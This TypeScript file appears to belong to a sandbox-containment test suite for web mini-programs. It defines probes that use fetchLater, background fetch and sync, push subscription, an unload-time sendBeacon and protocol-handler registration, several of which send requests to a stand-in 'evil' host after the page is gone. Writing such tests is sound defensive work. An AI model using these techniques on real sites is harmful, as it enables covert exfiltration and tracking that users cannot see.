// Attacks that let the browser send later, when the page has gone or is not looked at.
import type { Arena, Attack } from '../attack.ts';
import { need, settled, web, within } from '../page/in-page.ts';

/** The service worker of this page's origin, whoever registered it; its own where the page may. */
async function registration(): Promise<Record<string, unknown> & ServiceWorkerRegistration> {
  const workers = need(navigator.serviceWorker, 'serviceWorker');
  const found = (await workers.getRegistration('/')) ?? (await workers.register('/service-worker.js', { scope: '/' }));
  for (let wait = 0; found.active === null && wait < 20; wait += 1) await new Promise((done) => setTimeout(done, 50));
  return found as Record<string, unknown> & ServiceWorkerRegistration;
}
const part = async (name: string): Promise<Record<string, (...args: unknown[]) => Promise<unknown>>> =>
  need((await registration())[name], name) as Record<string, (...args: unknown[]) => Promise<unknown>>;

type Later = readonly [
  id: string,
  title: string,
  judge: Attack['judge'],
  run: (arena: Arena) => unknown,
  more?: Partial<Attack>,
];
const LATERS: readonly Later[] = [
  [
    'fetch-later',
    'fetchLater',
    'connection',
    ({ evil }) => void need(web.fetchLater, 'fetchLater')(`${evil}/later`, { activateAfter: 0 }),
    { control: 'top' },
  ],
  [
    'background-fetch',
    'Background fetch',
    'connection',
    async ({ evil, id }) => (await part('backgroundFetch')).fetch?.(id, [`${evil}/background`], { title: 'x' }),
    { control: 'top', gesture: true },
  ],
  [
    'background-sync',
    'Background sync',
    'connection',
    async ({ evil }) => (await part('sync')).register?.(`${evil}/sync`),
    { control: 'top' },
  ],
  [
    'periodic-sync',
    'Periodic background sync',
    'page',
    async () => {
      await within((await part('periodicSync')).register?.('davit', { minInterval: 1000 }));
      return 'registered';
    },
    { control: 'top' },
  ],
  [
    'push',
    'Push subscription',
    'page',
    async () => {
      await within((await part('pushManager')).subscribe?.({ userVisibleOnly: false }));
      return 'subscribed';
    },
    { control: 'top' },
  ],
  [
    'unload-beacon',
    'Beacon while it is closed',
    'connection',
    ({ evil }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow?.addEventListener('pagehide', () => navigator.sendBeacon(`${evil}/unload`));
      frame.remove();
    },
  ],
  [
    'protocol-handler',
    'Registers itself for a kind of links',
    'driver',
    ({ side }) => {
      const register = need(web.navigator?.registerProtocolHandler, 'registerProtocolHandler');
      register.call?.(navigator, `web+davit${side}`, `${location.origin}/?handled=%s`);
    },
    {
      control: 'top',
      gesture: true,
      needsDriver: true,
      limit:
        'A browser may ask the user whether links of a kind open with the mini-program; no policy or sandbox forbids the question. Such a link then opens the page “Open in …” on the mini-program’s origin, which runs none of its code.',
    },
  ],
];

export const BACKGROUND: readonly Attack[] = LATERS.map(([id, title, judge, run, more]) => ({
  id,
  title,
  threat: 'T131',
  judge,
  run: async (arena) => {
    const got = await run(arena);
    return judge === 'page' ? got : settled(got);
  },
  ...more,
}));
